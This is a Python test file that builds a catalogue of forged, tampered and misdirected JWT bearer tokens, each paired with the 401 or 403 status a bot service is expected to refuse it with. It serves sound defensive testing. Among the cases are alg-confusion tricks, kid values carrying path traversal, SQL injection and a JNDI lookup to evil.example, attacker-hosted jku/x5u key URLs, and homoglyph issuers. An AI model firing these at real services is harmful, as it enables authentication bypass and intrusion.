"""Tokens that prove nothing: forged, bent, borrowed, each with the status it must be refused with."""

import base64
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from tests.attacks.indoors import NOW, SERVICE, token
from tests.world.login import ISSUER
from tests.world.people import APP
from tests.world.signing import Key, key

TOO_LONG = 8_120
"""Characters of a token that a head may still hold."""
SECONDS = int(NOW.timestamp())
USUAL: Mapping[str, Any] = {
    "iss": ISSUER,
    "aud": APP,
    "iat": SECONDS,
    "nbf": SECONDS - 300,
    "exp": SECONDS + 3600,
    "serviceurl": SERVICE,
}
HEADER: Mapping[str, Any] = {"alg": "RS256", "typ": "JWT", "kid": "key-0"}
NONES = ("none", "None", "NONE", "nOnE", "none ", "", "null")
ALGORITHMS = ("RS384", "RS512", "PS256", "rs256", "RS256 ", "RSA", "HS256", "ES256", "EdDSA", "A128KW", "dir")
KIDS: tuple[Any, ...] = (
    "",
    " ",
    "../../../../dev/null",
    "/etc/passwd",
    "https://evil.example/key",
    "key-0' OR '1'='1",
    "key-0\0",
    "KEY-0",
    "key-0 ",
    "${jndi:ldap://evil.example}",
    "x" * 4_000,
    "key-99",
    0,
    None,
    ["key-0"],
    {"kid": "key-0"},
    True,
)
OF_ANOTHER_TYPE: tuple[Any, ...] = (0, 1, True, [], {}, [APP], [ISSUER], {"0": ISSUER}, "", " ", 1.5)
TIMES: Mapping[str, tuple[Any, ...]] = {
    "exp": (
        0,
        -1,
        SECONDS - 301,
        SECONDS - 10**6,
        10**30,
        "tomorrow",
        str(SECONDS + 3600),
        True,
        [SECONDS + 3600],
        {},
        1e400,
    ),
    "nbf": (SECONDS + 400, 2**34, 10**30, "x", True, [0], {}, -1),
    "iat": (SECONDS + 400, 2**34, 10**30, "x", True, [0], {}, -1),
}
AUDIENCES: tuple[Any, ...] = (
    [APP],
    [APP, "x"],
    [[APP]],
    f"{APP} ",
    f" {APP}",
    APP.upper(),
    f"api://{APP}",
    f"{APP},x",
    "*",
    ISSUER,
    APP[:-1],
)
ISSUERS: tuple[Any, ...] = (
    f"{ISSUER}/",
    ISSUER.upper(),
    f"{ISSUER} ",
    ISSUER.replace("https", "http"),
    "https://api.botframework.com.evil.example",
    "https://api.botframework.us",
    "https://sts.windows.net/d6d49420-f39b-4df7-a1dc-d59a935871db/",
    "https://login.microsoftonline.com/f8cdef31-a31e-4b4a-93e4-5f571e91255a/v2.0",
    "https://аpi.botframework.com",
    [ISSUER],
)
ADDRESSES: tuple[Any, ...] = (
    None,
    "",
    "https://smba.trafficmanager.net/amer/",
    "https://smba.trafficmanager.net",
    "http://smba.trafficmanager.net/emea/",
    "https://smba.trafficmanager.net.evil.example/emea/",
    "https://smba.trafficmanager.net@evil.example/emea/",
    "https://evil.trafficmanager.net/emea/",
    "https://smba.trafficmanager.net/emea/../amer/",
    "https://smba.trafficmanager.net/emea/%2e",
    [SERVICE],
    {"0": SERVICE},
    1,
)


@dataclass(frozen=True, slots=True)
class Try:
    """What is put into the Authorization headers of one request, and how it must be answered."""

    what: str
    headers: tuple[str, ...]
    status: int = 401


def segment(value: Any) -> str:
    """A part of a token."""
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def signed(claims: Any, header: Mapping[str, Any] = HEADER, by: Key | None = None) -> str:
    """A token with a right signature over whatever it is made of."""
    raw = claims if isinstance(claims, bytes) else json.dumps(claims).encode()
    head = {name: value for name, value in header.items() if value is not LEFT_OUT}
    text = f"{segment(dict(head))}.{segment(raw)}"
    signature = jwt.algorithms.RSAAlgorithm(jwt.algorithms.RSAAlgorithm.SHA256).sign(
        text.encode(), (by or key(0)).private
    )
    return f"{text}.{segment(signature)}"


LEFT_OUT = object()


def bearer(text: str) -> tuple[str, ...]:
    """The header of a token."""
    return (f"Bearer {text}",)


def without(name: str) -> dict[str, Any]:
    """The usual claims but for one."""
    return {claim: value for claim, value in USUAL.items() if claim != name}


def unsigned() -> Iterator[Try]:
    """Tokens that say that they need no signature, or another one."""
    for spelling in NONES:
        head = segment({**HEADER, "alg": spelling})
        for tail in ("", segment(b"x"), token().rpartition(".")[2]):
            yield Try(f"alg {spelling!r}", bearer(f"{head}.{segment(USUAL)}.{tail}"))
    for alg in (*ALGORITHMS, 5, None, ["RS256"], {"RS256": 1}):
        yield Try(f"alg {alg!r}", bearer(signed(dict(USUAL), {**HEADER, "alg": alg})))
    yield Try("no alg", bearer(signed(dict(USUAL), {**HEADER, "alg": LEFT_OUT})))
    public = key(0).private.public_key()
    for form in (serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1):
        for encoding in (serialization.Encoding.PEM, serialization.Encoding.DER):
            yield Try("HS256 with the public key", bearer(hashed(public.public_bytes(encoding, form))))
    yield Try("HS256 with the modulus", bearer(hashed(key(0).public()["n"].encode())))
    private = ec.generate_private_key(ec.SECP256R1())
    yield Try("ES256", bearer(jwt.encode(dict(USUAL), private, algorithm="ES256", headers={"kid": "key-0"})))


def hashed(secret: bytes) -> str:
    """Signed with a hash and a secret that is public."""
    text = f"{segment({**HEADER, 'alg': 'HS256'})}.{segment(dict(USUAL))}"
    made = jwt.algorithms.HMACAlgorithm(jwt.algorithms.HMACAlgorithm.SHA256).sign(text.encode(), secret)
    return f"{text}.{segment(made)}"


def claimed() -> Iterator[Try]:
    """Rightly signed claims that prove nothing."""
    for name in ("iss", "aud", "exp"):
        yield Try(f"no {name}", bearer(signed(without(name))))
        for value in (*OF_ANOTHER_TYPE, None):
            yield Try(f"{name} {value!r}", bearer(signed({**USUAL, name: value})))
    for name, values in TIMES.items():
        for value in values:
            yield Try(f"{name} {value!r}", bearer(signed({**USUAL, name: value})))
    for value in AUDIENCES:
        yield Try(f"aud {value!r}", bearer(signed({**USUAL, "aud": value})))
    for value in ISSUERS:
        yield Try(f"iss {value!r}", bearer(signed({**USUAL, "iss": value})))
    for payload in (
        b"",
        b"[]",
        b"null",
        b'"text"',
        b"\xff",
        b"{" * 3000,
        b'{"exp":NaN}',
        b'{"exp":1e999}',
        b"1" * 3000,
    ):
        yield Try("claims that are none", bearer(signed(payload)))
    twice = json.dumps(dict(USUAL))[:-1]
    yield Try("aud twice", bearer(signed(f'{twice},"aud":"x"}}'.encode())))
    yield Try("exp twice", bearer(signed(f'{twice},"exp":1}}'.encode())))
    yield Try("a token in a token", bearer(signed(token().encode())))
    yield Try("a token in a token", bearer(signed(token().encode(), {**HEADER, "cty": "JWT"})))


def headed() -> Iterator[Try]:
    """Heads that name a key of their own, or change what is signed."""
    for kid in KIDS:
        yield Try(f"kid {str(kid)[:30]!r}", bearer(signed(dict(USUAL), {**HEADER, "kid": kid})))
    yield Try("no kid", bearer(signed(dict(USUAL), {**HEADER, "kid": LEFT_OUT})))
    own = key(99)
    more: dict[str, Any]
    for more in (
        {"jwk": own.public()},
        {"jku": "https://evil.example/keys"},
        {"x5u": "https://evil.example/c"},
        {"x5c": ["x"]},
    ):
        for kid in ("key-0", "key-99"):
            yield Try(f"head with {next(iter(more))}", bearer(signed(dict(USUAL), {**HEADER, **more, "kid": kid}, own)))
    for more in (
        {"crit": ["exp"]},
        {"crit": []},
        {"b64": False},
        {"b64": False, "crit": ["b64"]},
        {"zip": "DEF", "crit": ["zip"]},
    ):
        yield Try(f"head with {sorted(more)}", bearer(signed(dict(USUAL), {**HEADER, **more})))
    for head in (b"[]", b"null", b"{", b"\xff", b"[" * 3000, b'{"alg":"RS256","alg":"none","kid":"key-0"}'):
        yield Try("a head that is none", bearer(f"{segment(head)}.{segment(USUAL)}.{segment(b'x')}"))


def bent() -> Iterator[Try]:
    """A good token that was changed on the way, and other ways to write the header."""
    head, body, tail = token().split(".")
    other = signed({**USUAL, "jti": "2"}).split(".")
    for what, text in {
        "no signature": f"{head}.{body}.",
        "two parts": f"{head}.{body}",
        "signature cut": f"{head}.{body}.{tail[:-8]}",
        "signature longer": f"{head}.{body}.{tail}AAAA",
        "signature of zeros": f"{head}.{body}.{segment(bytes(256))}",
        "signature of another body": f"{head}.{other[1]}.{tail}",
        "signature of a forger": signed(dict(USUAL), HEADER, key(99)),
        "four parts": f"{head}.{body}.{tail}.x",
        "five parts": f"{head}.{body}.{tail}.x.y",
        "padded": f"{head}==.{body}==.{tail}==",
        "blank within": f"{head}. {body}.{tail}",
        "tab behind": f"{head}.{body}.{tail}\tx",
        "comma": f"{token()},{token()}",
        "other alphabet": f"{head}.{body}.{tail}".replace("-", "+").replace("_", "/") + "+",
        "huge": signed({**USUAL, "filler": "x" * ((TOO_LONG - len(token())) * 3 // 4)}),
    }.items():
        yield Try(what, bearer(text))
    for scheme in ("", "Basic ", "Token ", "Bearer\t", "Bearer: ", "Bearer,", "JWT ", "Negotiate ", "Bearer Bearer "):
        yield Try(f"scheme {scheme!r}", (f"{scheme}{token()}",))
    good = f"Bearer {token()}"
    yield Try("no header", ())
    yield Try("an empty header", ("",))
    for headers in ((good, good), (good, ""), ("", good), ("Bearer a.b.c", good), (good, "Bearer a.b.c"), (good,) * 20):
        yield Try("several headers", headers)


def borrowed() -> Iterator[Try]:
    """Good tokens for something else."""
    for address in ADDRESSES:
        yield Try(f"serviceurl {address!r}", bearer(signed({**USUAL, "serviceurl": address})), 403)
    for claim in ("serviceUrl", "ServiceUrl", "SERVICEURL"):
        yield Try(claim, bearer(signed({**without("serviceurl"), claim: SERVICE})), 403)
    for endorsed in (WEBCHAT, BARE):
        yield Try(
            "a key for another channel", bearer(signed(dict(USUAL), {**HEADER, "kid": endorsed.kid}, endorsed)), 403
        )


WEBCHAT = Key("key-web", key(1).private, ("webchat", "directline", "msteams ", "MSTEAMS"))
BARE = Key("key-bare", key(2).private, ())
MAKES: tuple[Callable[[], Iterator[Try]], ...] = (unsigned, claimed, headed, bent, borrowed)


def tries() -> list[Try]:
    """All of them."""
    return [one for make in MAKES for one in make()]
